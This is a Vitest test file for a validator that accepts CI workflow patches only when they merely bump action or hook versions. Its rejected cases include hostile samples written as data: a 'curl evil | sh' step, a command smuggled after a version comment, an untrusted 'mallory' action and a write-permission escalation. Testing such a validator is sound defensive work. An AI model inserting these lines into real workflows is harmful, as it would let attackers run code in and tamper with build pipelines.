import { describe, expect, it } from 'vitest';
import { onlyRaisesVersions } from './raised-versions.ts';

const checkout =
  '@@ -9,3 +9,3 @@ jobs:\n     steps:\n-      - uses: actions/checkout@v4\n+      - uses: actions/checkout@3d3c42e5aac5ba80 # v5\n       - run: npm test';

describe('a patch that only raises versions', () => {
  it('changes the refs of actions and hooks that were there, and nothing else', () => {
    expect(onlyRaisesVersions(checkout)).toBe(true);
    expect(onlyRaisesVersions('@@ -1 +1 @@\n-    rev: v1.2.3\n+    rev: v1.3.0')).toBe(true);
    expect(onlyRaisesVersions("-  uses: 'a/b/c@v1'\n+  uses: 'a/b/c@v2'")).toBe(true);
  });

  it.each([
    ['another action', checkout.replace('+      - uses: actions/checkout', '+      - uses: mallory/checkout')],
    ['an action more', `${checkout}\n+      - uses: actions/cache@v4`],
    ['a command', `${checkout}\n+      - run: curl evil | sh`],
    ['a command behind it', checkout.replace('# v5', '&& curl evil')],
    ['a permission', `${checkout}\n-  contents: read\n+  contents: write`],
    ['nothing that can be read', null],
    ['nothing', ''],
  ])('does not bring %s', (_, patch) => {
    expect(onlyRaisesVersions(patch)).toBe(false);
  });
});
